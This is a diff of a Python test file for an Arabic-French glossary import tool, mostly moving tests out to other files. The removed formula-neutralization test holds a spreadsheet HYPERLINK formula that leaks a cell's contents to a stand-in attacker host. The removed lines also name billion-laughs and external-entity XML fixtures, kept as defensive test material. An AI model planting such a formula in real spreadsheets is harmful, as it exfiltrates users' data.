@@ -1,4 +1,8 @@
-"""`glossary import`: formats read, conflicts kept for review, bad rows and hostile XML."""
+"""`glossary import`: formats read, bad rows, broken files.
+
+(Conflicts with a person's decisions: test_decisions; hostile XML and formulas:
+test_security; an import that fails half-way: test_atomic.)
+"""
 
 from __future__ import annotations
 
@@ -6,17 +10,11 @@ import csv
 import io
 from pathlib import Path
 
-import pytest
 from click.testing import CliRunner
 
 import glossary.cli  # noqa: F401  (first: the CLI module registers the commands below)
-from glossary import review
-from glossary.build import build
 from glossary.commands_formats import export_command, import_command
-from glossary.lookup import lookup
 from glossary.store import Store
-
-from .conftest import SEEDS
 
 DATA = Path(__file__).resolve().parent / "data" / "formats"
 DGST_AR = "المديرية العامة لمراقبة التراب الوطني"
@@ -57,46 +55,7 @@ def _write_csv(path: Path, rows: list[list[str]]) -> Path:
     return path
 
 
-# --- formula neutralization ---------------------------------------------------------------
-
-
-def test_a_formula_in_a_french_cell_comes_out_neutralized(
-    runner: CliRunner, tmp_path: Path
-) -> None:
-    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")'
-    source = _write_csv(
-        tmp_path / "in.csv",
-        [["ar", "fr"], ["حرس الحدود", formula], ["الوكالة الوطنية للموانئ", "+33 1 23"]],
-    )
-    db = tmp_path / "g.db"
-    code, err = _import(runner, source, db)
-    assert code == 0, err
-    assert _preferred(db, "حرس الحدود")["fr"] == formula  # the data is kept as given
-    result = runner.invoke(export_command, ["--db", str(db)])
-    rows = {r["ar"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
-    assert rows["حرس الحدود"]["fr"] == "'" + formula
-    assert rows["الوكالة الوطنية للموانئ"]["fr"] == "'+33 1 23"
-
-
-# --- hostile XML --------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    "name", ["billion_laughs.tbx", "external_entity.tbx", "external_parameter_entity.tbx"]
-)
-def test_hostile_xml_is_refused_and_nothing_imported(
-    runner: CliRunner, fresh_db: Path, tmp_path: Path, name: str
-) -> None:
-    before = _counts(fresh_db)
-    code, err = _import(runner, DATA / name, fresh_db)
-    assert code == 2
-    lines = err.strip().splitlines()
-    assert len(lines) == 1 and lines[0].startswith("error: ")
-    assert "refused" in lines[0] and "nothing imported" in lines[0]
-    assert _counts(fresh_db) == before
-    empty = tmp_path / "new.db"
-    assert _import(runner, DATA / name, empty)[0] == 2
-    assert not empty.exists()  # refused before a db was even created
+# --- broken XML ---------------------------------------------------------------------------
 
 
 def test_malformed_xml_is_reported_with_its_line(runner: CliRunner, tmp_path: Path) -> None:
@@ -188,85 +147,7 @@ def test_tbx_2008_martif_is_read(runner: CliRunner, tmp_path: Path) -> None:
     assert rows["الوكالة الوطنية للموانئ"]["context"].startswith("أعلنت الوكالة")
 
 
-# --- conflicts with a person's decisions ---------------------------------------------------
-
-
-def test_an_import_does_not_overwrite_an_approved_entry(
-    runner: CliRunner, fresh_db: Path, tmp_path: Path
-) -> None:
-    store = Store(fresh_db)
-    dgst_id = store.query("SELECT id FROM entries WHERE ar = ?", [DGST_AR])[0]["id"]
-    review.set_status(store, dgst_id, "approved")
-    store.close()
-    before = _preferred(fresh_db, DGST_AR)
-    source = _write_csv(
-        tmp_path / "theirs.csv",
-        [["ar", "fr"], [DGST_AR, "Direction de la surveillance du territoire (DST)"]],
-    )
-
-    code, err = _import(runner, source, fresh_db)
-    assert code == 0
-    assert "theirs.csv:2: conflict:" in err and "--overwrite" in err
-    assert "1 conflict left for review" in err
-    assert _preferred(fresh_db, DGST_AR) == before
-
-    code, err = _import(runner, source, fresh_db, "--overwrite")
-    assert code == 0 and "1 updated" in err
-    after = _preferred(fresh_db, DGST_AR)
-    assert after["fr"] == "Direction de la surveillance du territoire"
-    assert after["acronym"] == "DST" and after["human"] == 1
-
-
-def test_imported_french_survives_a_rebuild_and_is_found(
-    runner: CliRunner, fresh_db: Path, tmp_path: Path
-) -> None:
-    target = "الأمن الداخلي"
-    store = Store(fresh_db)
-    assert store.query("SELECT id FROM entries WHERE ar = ?", [target])
-    store.close()
-    source = _write_csv(
-        tmp_path / "mine.csv",
-        [
-            ["ar", "fr", "context"],
-            [target, "sécurité intérieure (usage maison)", ""],
-            ["حرس الحدود", "gardes", "انتشر حرس الحدود على طول الساحل."],
-        ],
-    )
-    code, err = _import(runner, source, fresh_db)
-    assert code == 0 and "1 added, 1 updated" in err
-    store = Store(fresh_db)
-    paths = {r["path"] for r in store.query("SELECT path FROM documents")}
-    assert "imported:mine.csv" in paths and len(paths) == 6
-    assert lookup(store, "حرس الحدود").hits[0].context == "انتشر حرس الحدود على طول الساحل."
-    build([SEEDS], store)  # the miner runs again over the same corpus
-    assert len(store.query("SELECT path FROM documents")) == 5  # the import's context left
-    hits = lookup(store, "حرس الحدود").hits
-    assert hits and hits[0].fr == "gardes"  # the new entry is found by lookup
-    assert lookup(store, "usage maison").hits[0].ar == target  # and by its French
-    store.close()
-    kept = _preferred(fresh_db, target)
-    assert kept["fr"] == "sécurité intérieure (usage maison)" and kept["origin"] == "manual"
-
-
-def test_an_import_is_one_transaction(
-    runner: CliRunner, fresh_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    from glossary.formats import importer
-
-    calls = {"n": 0}
-    real = importer._insert_entry
-
-    def failing(*args: object, **kwargs: object) -> int:
-        calls["n"] += 1
-        if calls["n"] == 2:
-            raise RuntimeError("disk full")
-        return real(*args, **kwargs)  # type: ignore[arg-type]
-
-    monkeypatch.setattr(importer, "_insert_entry", failing)
-    before = _counts(fresh_db)
-    result = runner.invoke(import_command, [str(DATA / "plain.tsv"), "--db", str(fresh_db)])
-    assert result.exit_code != 0 and calls["n"] == 2
-    assert _counts(fresh_db) == before
+# --- files that are not glossaries ---------------------------------------------------------
 
 
 def test_unreadable_files_are_refused(runner: CliRunner, tmp_path: Path) -> None:
